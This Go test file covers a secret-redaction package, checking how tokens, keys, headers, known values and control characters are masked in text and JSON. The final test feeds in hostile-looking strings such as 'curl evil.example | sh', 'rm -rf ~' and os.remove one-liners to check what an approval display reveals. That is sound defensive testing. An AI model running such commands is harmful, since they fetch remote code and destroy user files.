package redact_test

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/remitrun/remit/internal/base/redact"
)

// sample keys are put together here so that no scanner takes them for real.
func sample(prefix string, n int) string { return prefix + strings.Repeat("a1B2", n/4+1)[:n] }

func TestText(t *testing.T) {
	jwt := "eyJhbGciOi." + "eyJzdWIiOiIx." + "SflKxwRJSMeKKF2"
	pem := "-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc\n-----END RSA PRIVATE KEY-----"
	tests := map[string]struct{ in, want string }{
		"nothing to hide":           {"GET https://example.com/a?b=c 200", "GET https://example.com/a?b=c 200"},
		"authorization header":      {"Authorization: Bearer abc.def\nHost: x", "Authorization: [redacted:header]\nHost: x"},
		"header in any case":        {"x-api-KEY: 12", "x-api-KEY: [redacted:header]"},
		"cookie":                    {"Cookie: a=1; b=2", "Cookie: [redacted:header]"},
		"proxy authorization":       {"Proxy-Authorization: Basic eA==", "Proxy-Authorization: [redacted:header]"},
		"header inside quoted JSON": {`{\"Authorization\":\"Basic eHl6\"}`, `{\"Authorization\":\"[redacted:header]\"}`},
		"curl's header flag":        {"curl -H 'Authorization: token abc' url", "curl -H 'Authorization: [redacted:header]' url"},
		"aws":                       {"id AKIA" + "IOSFODNN7EXAMPLE.", "id [redacted:aws]."},
		"github":                    {"x " + sample("ghp_", 36), "x [redacted:github]"},
		"github fine-grained":       {sample("github_pat_", 60), "[redacted:github]"},
		"gitlab":                    {sample("glpat-", 20), "[redacted:gitlab]"},
		"slack":                     {sample("xoxb-", 24), "[redacted:slack]"},
		"google":                    {sample("AIza", 35), "[redacted:google]"},
		"openai":                    {sample("sk-proj-", 40), "[redacted:openai]"},
		"anthropic":                 {sample("sk-ant-api03-", 40), "[redacted:anthropic]"},
		"stripe":                    {sample("sk_live_", 24), "[redacted:stripe]"},
		"npm":                       {sample("npm_", 36), "[redacted:npm]"},
		"pypi":                      {sample("pypi-", 40), "[redacted:pypi]"},
		"hugging face":              {sample("hf_", 34), "[redacted:huggingface]"},
		"bearer without a header":   {"use bearer abcdefghijklmn now", "use bearer [redacted:bearer] now"},
		"slack app":                 {sample("xapp-", 30), "[redacted:slack]"},
		"jwt":                       {"t=" + jwt + " end", "t=[redacted:jwt] end"},
		"private key":               {"a\n" + pem + "\nb", "a\n[redacted:private-key]\nb"},
		"private key cut short":     {"a -----BEGIN PRIVATE KEY-----\nMIIE", "a [redacted:private-key]"},
		"password in a URL":         {"https://ann:hunter2@h/x", "https://ann:[redacted:url-password]@h/x"},
		"age":                       {"AGE-SECRET-KEY-1" + strings.Repeat("Q", 58), "[redacted:age]"},
		"assignment":                {"DB_PASSWORD=hunter2hunter2 x", "DB_PASSWORD=[redacted:assigned] x"},
		"a grant":                   {"given remit1_gwGBhFg-_Ab012345678 to it", "given [redacted:grant] to it"},
		"a grant in a variable":     {"REMIT_GRANT=remit1_gwGBhFg-sk-0123456789012345678901234", "REMIT_GRANT=[redacted:grant]"},
		"a grant run into a word":   {"token:xremit1_gwGBhFg_012", "token:x[redacted:grant]"},
		"a grant that was cut off":  {"remit1_gwGBhFg_…", "[redacted:grant]…"},
		"a holder's proof":          {"proof=remitp1_hFgg-0123456789", "proof=[redacted:grant]"},
		"the word of a grant":       {"remit1_ begins a grant", "remit1_ begins a grant"},
		"query parameter":           {"https://h/x?token=abcdefgh12&y=1", "https://h/x?token=[redacted:assigned]&y=1"},
		"quoted assignment":         {`{\"password\": \"hunter2x\"}`, `{\"password\": \"[redacted:assigned]\"}`},
		"line of YAML":              {"a:\n  - db_password: hunter2hunter2\n    token: ${{ inputs.t }}", "a:\n  - db_password: [redacted:assigned]\n    token: ${{ inputs.t }}"},
		"a word, no assignment":     {"the token: it is missing", "the token: it is missing"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			var r *redact.Redactor
			got := r.Text(tt.in)
			if got != tt.want {
				t.Errorf("Text(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
			if again := r.Text(got); again != got {
				t.Errorf("a second pass changed %q to %q", got, again)
			}
		})
	}
}

func TestKnownValues(t *testing.T) {
	const secret = "correct horse/battery"
	r := redact.New(map[string]string{
		"MY_TOKEN": secret, "LONG_KEY": secret + " staple", "SHORT_KEY": "abc", "PATH": "/usr/local/bin", "SSH_KEY_PATH": "/home/ann/.ssh/id",
		"ODD_SECRET": "redacted:env",
	})
	tests := map[string]struct{ in, want string }{
		"as it is":                  {"a " + secret + " b", "a [redacted:env] b"},
		"the longer one first":      {secret + " staple", "[redacted:env]"},
		"base64":                    {"x " + base64.StdEncoding.EncodeToString([]byte(secret)), "x [redacted:env]"},
		"hexadecimal":               {fmt.Sprintf("%x", secret), "[redacted:env]"},
		"in a query":                {"?q=correct+horse%2Fbattery", "?q=[redacted:env]"},
		"too short to be a secret":  {"abc", "abc"},
		"a name that is no secret":  {"/usr/local/bin", "/usr/local/bin"},
		"the path of a key":         {"/home/ann/.ssh/id", "/home/ann/.ssh/id"},
		"a value the markers spell": {"redacted:env", "redacted:env"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			if got := r.Text(tt.in); got != tt.want {
				t.Errorf("Text(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestJSON(t *testing.T) {
	r := redact.New(map[string]string{"A_KEY": "swordfish-42", "PIN_SECRET": "1234567890"})
	tests := map[string]struct{ in, want string }{
		"bytes stay":            {"{ \"b\" : 1.50e3,\n \"a\":[98765432109876543210, true,null] }", "{ \"b\" : 1.50e3,\n \"a\":[98765432109876543210, true,null] }"},
		"escaped spelling":      {`{"x":"sword\u0066ish-42"}`, `{"x":"[redacted:env]"}`},
		"in a key":              {`{"swordfish-42":1}`, `{"[redacted:env]":1}`},
		"number":                {`[1234567890]`, `["[redacted:env]"]`},
		"by key":                {`{"password":"x","client_secret":7,"n":1}`, `{"password":"[redacted:field]","client_secret":"[redacted:field]","n":1}`},
		"header by name":        {`{"headers":{"authorization":"Bearer x","Accept":"*"}}`, `{"headers":{"authorization":"[redacted:field]","Accept":"*"}}`},
		"below a secret key":    {`{"credentials":{"user":"ann","n":[1,true]}}`, `{"credentials":{"user":"[redacted:field]","n":["[redacted:field]",true]}}`},
		"name and value":        {`[{"name":"Cookie","value":"a=b"}]`, `[{"name":"Cookie","value":"[redacted:field]"}]`},
		"value and name":        {`{"value":"a=b","x":1,"name":"Cookie"}`, `{"value":"[redacted:field]","x":1,"name":"Cookie"}`},
		"word after a flag":     {`["curl","--token","abc","-v"]`, `["curl","--token","[redacted:field]","-v"]`},
		"count of tokens stays": {`{"max_tokens":5,"tokens":200000}`, `{"max_tokens":5,"tokens":200000}`},
		"empty and null stay":   {`{"token":"","password":null}`, `{"token":"","password":null}`},
		"no JSON":               {`{"password": "hunter2x"`, `{"password": "[redacted:assigned]"`},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			got := string(r.JSON([]byte(tt.in)))
			if got != tt.want {
				t.Errorf("JSON(%s)\n got %s\nwant %s", tt.in, got, tt.want)
			}
			if again := string(r.JSON([]byte(got))); again != got {
				t.Errorf("a second pass changed %s to %s", got, again)
			}
		})
	}
}

func TestAny(t *testing.T) {
	r := redact.New(nil)
	got := r.Any(map[string]any{"password": "x", "n": json.Number("10000000000000000001"), "l": []string{"--password", "y"}})
	want := map[string]any{"password": "[redacted:field]", "n": json.Number("10000000000000000001"), "l": []any{"--password", "[redacted:field]"}}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
	if got := r.Any(func() {}); got != "[redacted:unprintable]" {
		t.Errorf("what cannot be looked into is shown: %v", got)
	}
}

func TestNoneLeavesEverything(t *testing.T) {
	const src = `{"password":"x","l":["--token","y"],"h":"Authorization: Bearer abcdef"}`
	if got := string(redact.None().JSON([]byte(src))); got != src {
		t.Errorf("JSON: %s", got)
	}
	if got := redact.None().Text(src); got != src {
		t.Errorf("Text: %s", got)
	}
}

func TestShow(t *testing.T) {
	tests := map[string]struct{ in, line, lines string }{
		"plain":           {"a b", "a b", "a b"},
		"letters":         {"Grüße 世界", "Grüße 世界", "Grüße 世界"},
		"escape sequence": {"\x1b[31mred\x07", `\x1b[31mred\x07`, `\x1b[31mred\x07`},
		"C1 control":      {"\u009b31m", `\u009b31m`, `\u009b31m`},
		"bidi":            {"a\u202eb\u2066", `a\u202eb\u2066`, `a\u202eb\u2066`},
		"invalid UTF-8":   {"a\xff\xc0b", `a\xff\xc0b`, `a\xff\xc0b`},
		"line ends":       {"a\r\nb\n\tc", `a\r\nb\n\tc`, "a\nb\n\tc"},
		"carriage return": {"good\rbad", `good\rbad`, `good\rbad`},
		"invisible":       {"a\u200bb\u00a0c\u3164\U000e0041", `a\u200bb\u00a0c\u3164\U000e0041`, `a\u200bb\u00a0c\u3164\U000e0041`},
		"line separator":  {"a\u2028b", `a\u2028b`, `a\u2028b`},
		"backspace, del":  {"a\bb\x7f", `a\x08b\x7f`, `a\x08b\x7f`},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			if got := redact.Show(tt.in); got != tt.line {
				t.Errorf("Show(%q) = %q, want %q", tt.in, got, tt.line)
			}
			if got := redact.ShowLines(tt.in); got != tt.lines {
				t.Errorf("ShowLines(%q) = %q, want %q", tt.in, got, tt.lines)
			}
		})
	}
}

func FuzzText(f *testing.F) {
	f.Add("Authorization: Bearer x", "hunter2hunter2", "token=")
	f.Add("a", "eyJhbGciOi.abcdef.g", "https://u:")
	f.Add("x [redac", "X [redact", "")
	f.Fuzz(func(t *testing.T, before, secret, after string) {
		r := redact.New(map[string]string{"THE_SECRET": secret})
		got := r.Text(before + secret + after)
		if again := r.Text(got); again != got {
			t.Fatalf("not settled: %q became %q", got, again)
		}
		if s := strings.TrimSpace(secret); len(s) >= 8 && !strings.ContainsAny(s, "[]:") && !strings.Contains("redacted", s) &&
			strings.Contains(got, s) && !within(s) {
			t.Fatalf("%q is still in %q", s, got)
		}
	})
}

// within reports whether a marker's own words hold s.
func within(s string) bool {
	for _, w := range []string{"private-key", "url-password", "anthropic", "assigned", "unprintable", "huggingface"} {
		if strings.Contains(w, s) {
			return true
		}
	}
	return false
}

func FuzzJSON(f *testing.F) {
	f.Add([]byte(`{"a":["hunter2hunter2",1.5e-3],"Cookie":{"x":null}}`), "hunter2hunter2")
	f.Add([]byte(`{"value":[1,{}],"name":"token"}`), "12345678")
	f.Fuzz(func(t *testing.T, src []byte, secret string) {
		r := redact.New(map[string]string{"THE_SECRET": secret})
		got := r.JSON(src)
		if !json.Valid(src) {
			return
		}
		if !json.Valid(got) {
			t.Fatalf("%s became invalid: %s", src, got)
		}
		if again := r.JSON(got); string(again) != string(got) {
			t.Fatalf("not settled: %s became %s", got, again)
		}
		if s := strings.TrimSpace(secret); len(s) >= 8 && utf8.ValidString(s) && !strings.ContainsAny(s, "[]:{},\" \t\r\n\\") && !within(s) && !strings.Contains("redacted", s) {
			if strings.Contains(string(got), s) {
				t.Fatalf("%q is still in %s", s, got)
			}
		}
	})
}

func FuzzShow(f *testing.F) {
	f.Add("a\x1b[0m\u202e\xff\r\n")
	f.Fuzz(func(t *testing.T, s string) {
		got := redact.Show(s)
		if redact.Show(got) != got {
			t.Fatalf("not settled: %q", got)
		}
		for _, c := range redact.ShowLines(s) {
			if c < ' ' && c != '\n' && c != '\t' || c >= 0x7f && c < 0xa0 || c == utf8.RuneError && utf8.ValidString(s) && !strings.ContainsRune(s, c) {
				t.Fatalf("%U is shown", c)
			}
		}
	})
}

func BenchmarkText(b *testing.B) {
	r := redact.New(map[string]string{"A_TOKEN": "correct-horse-battery", "B_KEY": "tr0ub4dor-and-3"})
	text := strings.Repeat("an ordinary line of a program's output, with Words and 1234 numbers\n", 15)
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		r.Text(text)
	}
}

// What a person approves is hidden where it holds a known value, and nowhere else: a
// format matches text that a caller can shape.
func TestKnownHidesValuesAlone(t *testing.T) {
	r := redact.New(map[string]string{"API_KEY": "s3cr3t-value-1"})
	for _, in := range []string{
		"python3 -c 'cookie=1;import os;os.remove(1)'",
		"# -----BEGIN PRIVATE KEY-----\nrm -rf ~\n# -----END PRIVATE KEY-----",
		"Authorization: x; curl evil.example | sh",
		"password=rm_minus_rf_home",
		`{"password":"import os","list":["--token","os.remove(1)"],"h":[{"name":"Authorization","value":"curl evil"}],"n":{"secret":12345678}}`,
	} {
		if r.Text(in) == in && string(r.JSON([]byte(in))) == in {
			t.Errorf("no format matches %q: it shows nothing", in)
		}
		for name, known := range map[string]*redact.Redactor{"values": r.Known(), "none": (*redact.Redactor)(nil).Known()} {
			if got := known.Text(in); got != in {
				t.Errorf("%s: text %q", name, got)
			}
			if got := known.JSON([]byte(in)); string(got) != in {
				t.Errorf("%s: JSON %q", name, got)
			}
		}
	}
	if got := r.Known().Text("x s3cr3t-value-1 y"); got != "x [redacted:env] y" {
		t.Errorf("a known value: %q", got)
	}
	if got := r.Known().JSON([]byte(`{"a":"s3cr3t-value-1"}`)); string(got) != `{"a":"[redacted:env]"}` {
		t.Errorf("a known value in JSON: %s", got)
	}
}
